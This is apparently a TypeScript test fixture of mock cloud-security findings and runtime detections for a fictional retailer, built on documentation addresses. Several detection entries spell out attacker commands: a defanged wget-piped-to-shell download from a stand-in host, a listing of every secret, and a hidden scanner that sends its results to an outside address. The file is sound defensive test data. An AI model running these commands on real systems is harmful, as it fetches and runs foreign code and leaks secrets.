/** What the retailer's cloud has wrong with it, as Wiz would tell it. Accounts and addresses are documentation ones. */
export interface IssueScenario {
  severity: 'CRITICAL' | 'HIGH' | 'MEDIUM' | 'LOW' | 'INFORMATIONAL';
  control: string;
  description: string;
  recommendation: string;
  projects: readonly string[];
  platform: 'AWS' | 'Azure' | 'GCP';
  entityType: string;
  nativeType: string;
  name: string;
  region: string;
}

const aws = { platform: 'AWS', region: 'eu-central-1' } as const;
const azure = { platform: 'Azure', region: 'westeurope' } as const;
const gcp = { platform: 'GCP', region: 'europe-west3' } as const;
const vm = { entityType: 'VIRTUAL_MACHINE' } as const;
const bucket = { entityType: 'BUCKET' } as const;

export const ISSUE_SCENARIOS: readonly IssueScenario[] = [
  {
    ...aws,
    ...vm,
    severity: 'CRITICAL',
    control: 'Checkout server open to the Internet with a known exploited vulnerability',
    description: 'The machine answers on 203.0.113.24:8443 from anywhere and runs a library with CVE-2021-44228.',
    recommendation: 'Upgrade the logging library and close port 8443 in the security group.',
    projects: ['Online Shop', 'PCI Zone'],
    nativeType: 'ec2#instance',
    name: 'checkout-eu-3',
  },
  {
    ...aws,
    ...bucket,
    severity: 'HIGH',
    control: 'Bucket with receipts is readable by everyone',
    description: 'Objects with loyalty numbers can be listed without signing in.',
    recommendation: 'Turn on Block Public Access for the bucket and the account.',
    projects: ['Loyalty'],
    nativeType: 's3#bucket',
    name: 'receipts-archive-eu',
  },
  {
    ...azure,
    severity: 'MEDIUM',
    control: 'Application secret has not been rotated for over a year',
    description: 'The stock-level job signs in with a client secret that was made 14 months ago.',
    recommendation: 'Rotate the secret, or replace it by a managed identity.',
    projects: ['Store Systems'],
    entityType: 'SERVICE_ACCOUNT',
    nativeType: 'servicePrincipal',
    name: 'stock-level-sync',
  },
  {
    ...gcp,
    severity: 'LOW',
    control: 'Container image without a scan in the last 30 days',
    description: 'The image of the price-tag renderer was last scanned before its current base image was published.',
    recommendation: 'Scan the image in the build pipeline.',
    projects: [],
    entityType: 'CONTAINER_IMAGE',
    nativeType: 'artifactRegistry#image',
    name: 'price-tags:2.14',
  },
  {
    ...aws,
    severity: 'HIGH',
    control: 'Function role may assume an administrator role in the payment account',
    description: 'The gift-card function can reach arn:aws:iam::444455556666:role/payments-admin by two hops.',
    recommendation: 'Remove sts:AssumeRole from the role or restrict its resource.',
    projects: ['Payments', 'PCI Zone'],
    entityType: 'SERVERLESS',
    nativeType: 'lambda#function',
    name: 'gift-card-balance',
  },
  {
    ...azure,
    ...vm,
    severity: 'INFORMATIONAL',
    control: 'Machine without an owner tag',
    description: 'No owner is recorded for the kiosk image builder.',
    recommendation: 'Add the tag "owner".',
    projects: ['Store Systems'],
    nativeType: 'virtualMachine',
    name: 'kiosk-image-builder',
  },
  {
    ...gcp,
    ...bucket,
    severity: 'MEDIUM',
    control: 'Clear-text private key in storage',
    description: 'deploy/keys/warehouse.pem holds a private key that opens two other machines.',
    recommendation: 'Remove the key, and revoke it where it is trusted.',
    projects: ['Warehouse'],
    nativeType: 'storage#bucket',
    name: 'warehouse-deploy',
  },
];

export interface DetectionScenario {
  severity: IssueScenario['severity'];
  title: string;
  description: string;
  tactic: string;
  technique: string;
  actor: { name: string; type: string; nativeType: string };
  resource: { name: string; type: string; nativeType: string };
  actorIP: string;
  reputation: 'MALICIOUS' | 'UNKNOWN';
  command: string;
  path: string;
}

export const DETECTION_SCENARIOS: readonly DetectionScenario[] = [
  {
    severity: 'CRITICAL',
    title: 'Download piped into a shell in the cart service',
    description: 'A web process fetched a script from cdn-updates.example and ran it.',
    tactic: 'TA0002',
    technique: 'T1059.004',
    actor: { name: 'cart-runtime', type: 'SERVICE_ACCOUNT', nativeType: 'role' },
    resource: { name: 'cart-5d9f', type: 'CONTAINER', nativeType: 'pod' },
    actorIP: '198.51.100.46',
    reputation: 'MALICIOUS',
    command: 'sh -c "wget -qO- hxxp://cdn-updates[.]example/i.sh | sh"',
    path: '/bin/busybox',
  },
  {
    severity: 'HIGH',
    title: 'Console sign-in from a country never seen for this user',
    description: 'd.okafor@shop.example signed in and listed every secret within two minutes.',
    tactic: 'TA0001',
    technique: 'T1078.004',
    actor: { name: 'd.okafor@shop.example', type: 'USER_ACCOUNT', nativeType: 'user' },
    resource: { name: 'retail-prod', type: 'SUBSCRIPTION', nativeType: 'account' },
    actorIP: '203.0.113.201',
    reputation: 'UNKNOWN',
    command: 'aws secretsmanager list-secrets --region eu-central-1',
    path: '/usr/local/bin/aws',
  },
  {
    severity: 'MEDIUM',
    title: 'Port scan out of the warehouse network',
    description: 'One machine tried 1,400 ports of 192.0.2.0/24 in a minute.',
    tactic: 'TA0007',
    technique: 'T1046',
    actor: { name: 'picker-agent', type: 'SERVICE_ACCOUNT', nativeType: 'serviceAccount' },
    resource: { name: 'picker-gw-2', type: 'VIRTUAL_MACHINE', nativeType: 'compute#instance' },
    actorIP: '192.0.2.88',
    reputation: 'UNKNOWN',
    command: '/tmp/.x/scan 192.0.2.0/24 --to http://192.0.2.250:8081/r',
    path: '/tmp/.x/scan',
  },
];
